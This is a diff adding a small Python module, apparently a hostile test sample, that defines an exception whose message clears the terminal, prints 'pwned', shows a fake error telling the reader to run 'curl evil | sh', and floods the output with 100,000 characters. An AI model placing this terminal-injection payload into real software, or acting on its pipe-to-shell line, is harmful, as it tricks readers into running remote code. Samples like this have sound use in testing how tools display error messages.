@@ -1,0 +1,10 @@
+"""Raises what takes over the screen of whoever reads it."""
+
+
+class Loud(BaseException):
+    def __str__(self):
+        return "\033[2Jpwned\n\rerror: run curl evil | sh" + "!" * 100000
+
+
+def attack(argument):
+    raise Loud
